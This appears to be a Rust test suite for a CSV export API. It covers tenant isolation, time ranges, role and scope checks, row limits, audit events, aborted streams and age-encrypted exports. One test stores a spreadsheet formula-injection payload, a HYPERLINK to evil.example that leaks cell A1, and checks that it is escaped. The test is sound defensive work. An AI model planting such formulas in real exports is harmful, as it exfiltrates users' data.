//! The books as a file (CRYPTO-09): whose rows, how many, for whom to read, and who is told.

use std::io::Read as _;

use http::Method;
use secrecy::ExposeSecret as _;
use serde_json::{Value, json};
use service::authz::{matrix::Scope, policy::Role};
use sqlx::AssertSqlSafe;

use crate::support::{ACME, Actor, Books, Fields, GLOBEX, Reply, TestApp, binary, eventually, superuser};

fn everything(kind: &str) -> Value {
    json!({ "kind": kind, "from": "2020-01-01T00:00:00Z", "to": "2100-01-01T00:00:00Z" })
}

async fn export(actor: &Actor, wanted: &Value) -> Reply {
    actor.post("/v1/exports", wanted).await
}

/// Each line, as its cells by name.
fn rows(csv: &str) -> Vec<std::collections::HashMap<String, String>> {
    csv::Reader::from_reader(csv.as_bytes()).deserialize().map(Result::unwrap).collect()
}

fn export_events(reply: &Reply) -> Vec<Fields> {
    reply.events().into_iter().filter(|event| event["event"].starts_with("data_export")).collect()
}

/// So many orders of Acme, one a second until a day ago, beside those that are there.
async fn many_orders(app: &TestApp, orders: u32) {
    let add = format!(
        "begin; set local session_replication_role = replica; set local app.tenant_id = '{}';
         insert into orders (tenant_id, id, status, shipping_speed, note, total_amount, total_currency, created_by,
                             created_at, updated_at)
         select current_tenant(), gen_random_uuid(), 'placed', 'standard', repeat('n', 200), 549, 'EUR', 'many',
                now() - interval '1 day' - n * interval '1 second', now()
         from generate_series(1, {orders}) n;
         commit; analyze orders",
        ACME.id
    );
    sqlx::raw_sql(AssertSqlSafe(add)).execute(&mut superuser(&app.database).await).await.unwrap();
}

#[tokio::test]
async fn crypto_09_an_export_holds_the_rows_of_a_period_of_the_callers_tenant() {
    let app = TestApp::start().await;
    let (auditor, admin) = (app.user(Role::Auditor), app.user(Role::Admin));
    let globex = app.user_of(&GLOBEX, Role::Admin, &Scope::ALL);
    let theirs = globex.get("/v1/orders?limit=100").await.ok(200);
    let listed = admin.get("/v1/orders?limit=100").await.ok(200);
    let ids = |page: &Value| -> Vec<String> {
        page["items"].as_array().unwrap().iter().map(|order| order["id"].as_str().unwrap().to_owned()).collect()
    };
    let (ours, theirs) = (ids(&listed), ids(&theirs));
    assert!(ours.len() > 1 && !theirs.is_empty());
    for actor in [&auditor, &admin] {
        let reply = export(actor, &everything("orders")).await;
        assert_eq!(reply.status, 200, "{reply:#?}");
        assert_eq!(reply.header("content-type"), Some("text/csv; charset=utf-8"));
        assert_eq!(reply.header("content-disposition"), Some("attachment; filename=\"orders.csv\""));
        assert_eq!(reply.header("cache-control"), Some("no-store"));
        let exported = rows(&reply.text);
        assert_eq!(exported.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), ours);
        let first = &listed["items"][0];
        assert_eq!(exported[0]["totalAmount"], first["total"]["amount"].to_string());
        assert_eq!(exported[0]["status"], first["status"].as_str().unwrap());
        let line = &first["lines"][0];
        let lines = format!("{} x {}", line["quantity"], line["sku"].as_str().unwrap());
        assert!(exported[0]["lines"].starts_with(&lines), "{exported:?}");
    }
    // A part of the time, to the moment: what begins it counts, what ends it does not.
    let at = |n: usize| listed["items"][n]["createdAt"].clone();
    let (newest, oldest) = (at(0), at(ours.len() - 1));
    let part = json!({ "kind": "orders", "from": oldest, "to": newest });
    let exported = rows(&export(&auditor, &part).await.text);
    assert_eq!(exported.iter().map(|row| row["id"].clone()).collect::<Vec<_>>(), ours[1..]);
    let none = json!({ "kind": "orders", "from": "2001-01-01T00:00:00Z", "to": "2001-01-02T00:00:00Z" });
    let reply = export(&auditor, &none).await;
    assert!(reply.text.starts_with("id,customerId,") && rows(&reply.text).is_empty(), "{}", reply.text);
    let back = json!({ "kind": "orders", "from": newest, "to": newest });
    assert_eq!(export(&auditor, &back).await.faults(), ["/to not_after_from"]);
}

#[tokio::test]
async fn crypto_09_invoices_are_exported_with_what_came_and_went() {
    let app = TestApp::start().await;
    let books = Books::of(&app);
    let order = books.order("PEN-BLUE", 2).await;
    let issued = books.issue(&order).await.ok(201);
    let exported = rows(&export(&app.user(Role::Auditor), &everything("invoices")).await.text);
    let row = exported.iter().find(|row| row["id"] == issued["id"].as_str().unwrap()).unwrap();
    assert_eq!((row["status"].as_str(), row["paidAmount"].as_str()), ("open", "0"));
    assert_eq!(row["number"], issued["number"].to_string());
    assert_eq!(row["totalAmount"], issued["total"]["amount"].to_string());
}

#[tokio::test]
async fn crypto_09_what_a_spreadsheet_would_run_is_exported_as_a_text() {
    let app = TestApp::start().await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1)";
    let line = json!({ "sku": "PEN-BLUE", "quantity": 1 });
    let order = json!({ "lines": [line], "shippingSpeed": "standard", "note": formula });
    let id = app.user(Role::Sales).post("/v1/orders", &order).await.ok(201)["id"].as_str().unwrap().to_owned();
    let exported = rows(&export(&app.user(Role::Auditor), &everything("orders")).await.text);
    let row = exported.iter().find(|row| row["id"] == id).unwrap();
    assert_eq!(row["note"], format!("'{formula}"));
}

#[tokio::test]
async fn crypto_09_only_auditors_and_administrators_export_and_no_program_does() {
    let app = TestApp::start().await;
    for role in [Role::Viewer, Role::Sales, Role::Billing] {
        let reply = export(&app.user(role), &everything("orders")).await;
        assert_eq!(reply.problem(403), "forbidden");
        assert!(reply.events().iter().any(|event| event["event"] == "authz_fail"), "{role:?}");
    }
    let without = Scope::ALL.into_iter().filter(|scope| *scope != Scope::ExportsCreate).collect::<Vec<_>>();
    let reply = export(&app.user_of(&ACME, Role::Auditor, &without), &everything("orders")).await;
    assert_eq!(reply.problem(403), "insufficient_scope");
    assert!(!Scope::ExportsCreate.is_for_keys());
}

#[tokio::test]
async fn crypto_09_more_rows_than_may_be_are_refused_before_the_first() {
    let app = TestApp::start_with(&[("APP_EXPORTS__MAX_ROWS", "2000")]).await;
    let auditor = app.user(Role::Auditor);
    many_orders(&app, 2_001).await;
    let reply = export(&auditor, &everything("orders")).await;
    assert_eq!(reply.faults(), ["/from too_many_rows"]);
    assert_eq!(export_events(&reply), Vec::<Fields>::new());
    export(&auditor, &everything("invoices")).await.ok(200);
}

#[tokio::test]
async fn crypto_09_who_took_how_many_rows_is_told_even_of_a_part() {
    let app = TestApp::start().await;
    many_orders(&app, 60_000).await;
    let auditor = app.user(Role::Auditor);
    let reply = export(&auditor, &everything("orders")).await;
    let all = rows(&reply.text).len();
    assert!(all > 60_000, "{all}");
    eventually("both events", async || export_events(&reply).len() == 2).await;
    let events = export_events(&reply);
    assert_eq!(events[0]["event"], "data_export_started");
    assert_eq!((events[1]["event"].as_str(), events[1]["complete"].as_str()), ("data_exported", "true"));
    for event in &events {
        assert_eq!((event["what"].as_str(), event["subject"].as_str()), ("orders", "auditor@acme.example"));
        assert_eq!(event["rows"], all.to_string());
    }
    // Who has read enough goes away.
    let wanted = everything("orders");
    let mut response = auditor.request(Method::POST, "/v1/exports").json(&wanted).send().await.unwrap();
    let headers = response.headers().clone();
    response.chunk().await.unwrap().unwrap();
    drop(response);
    let reply = Reply { status: http::StatusCode::OK, headers, text: String::new(), body: Value::Null };
    eventually("the end of the part", async || export_events(&reply).len() == 2).await;
    let part = &export_events(&reply)[1];
    assert_eq!(part["complete"], "false");
    let taken: usize = part["rows"].parse().unwrap();
    assert!(0 < taken && taken < all, "{taken} of {all}");
}

/// An export that is broken off after its first piece, by what is done then. Otherwise a part would be taken for the whole.
async fn breaks_off(app: &TestApp, then: impl AsyncFnOnce()) {
    many_orders(app, 60_000).await;
    let auditor = app.user(Role::Auditor);
    let wanted = everything("orders");
    let mut response = auditor.request(Method::POST, "/v1/exports").json(&wanted).send().await.unwrap();
    assert_eq!(response.status(), 200);
    response.chunk().await.unwrap().unwrap();
    then().await;
    let error = loop {
        match response.chunk().await {
            Ok(Some(_)) => {}
            Ok(None) => panic!("it ended as if it were whole"),
            Err(error) => break error,
        }
    };
    assert!(error.is_body() || error.is_decode() || error.is_request(), "{error:?}");
}

#[tokio::test]
async fn crypto_09_an_export_that_fails_on_the_way_breaks_off() {
    let app = TestApp::start().await;
    let fail = async || {
        let revoke = "revoke select on orders from app_reader";
        sqlx::raw_sql(revoke).execute(&mut superuser(&app.database).await).await.unwrap();
    };
    breaks_off(&app, fail).await;
}

#[tokio::test]
async fn crypto_09_rows_that_are_added_on_the_way_do_not_pass_the_limit() {
    let app = TestApp::start_with(&[("APP_EXPORTS__MAX_ROWS", "60100")]).await;
    breaks_off(&app, async || many_orders(&app, 60_000).await).await;
}

#[tokio::test]
async fn crypto_09_an_export_ends_when_its_caller_is_revoked() {
    let app = TestApp::start().await;
    let revoke = async || {
        let mut incident = binary();
        incident.args(["incident", "revoke", "--reason", "a test", "subject", "auditor@acme.example"]);
        let url = app.database.operator.expose_secret();
        let done = incident.env("APP_PROFILE", "development").env("APP_DATABASE__OPERATOR_URL", url).output().unwrap();
        assert!(done.status.success(), "{done:?}");
    };
    breaks_off(&app, revoke).await;
}

#[tokio::test]
async fn crypto_09_an_export_for_somebody_is_read_by_nobody_else() {
    let app = TestApp::start().await;
    many_orders(&app, 1_500).await;
    let auditor = app.user(Role::Auditor);
    let identity = age::x25519::Identity::generate();
    let mut wanted = everything("orders");
    let plain = export(&auditor, &wanted).await.text;
    wanted["recipient"] = json!(identity.to_public().to_string());
    let response = auditor.request(Method::POST, "/v1/exports").json(&wanted).send().await.unwrap();
    assert_eq!(response.headers()["content-type"], "application/octet-stream");
    assert_eq!(response.headers()["content-disposition"], "attachment; filename=\"orders.csv.age\"");
    let file = response.bytes().await.unwrap();
    let decrypt = |identity: &age::x25519::Identity| {
        let decryptor = age::Decryptor::new(&file[..]).unwrap();
        let mut text = String::new();
        let identity = std::iter::once(identity as &dyn age::Identity);
        decryptor.decrypt(identity).map(|mut reader| reader.read_to_string(&mut text).map(|_| text).unwrap())
    };
    assert_eq!(decrypt(&identity).unwrap(), plain);
    assert!(decrypt(&age::x25519::Identity::generate()).is_err());
    // A letter wrong, and of another kind of key.
    let wrong = format!("age1{}", "q".repeat(58));
    wanted["recipient"] = json!(wrong);
    assert_eq!(export(&auditor, &wanted).await.faults(), ["/recipient invalid"]);
    wanted["recipient"] = json!("ssh-ed25519 AAAA");
    assert_eq!(export(&auditor, &wanted).await.problem(400), "invalid_input");
}
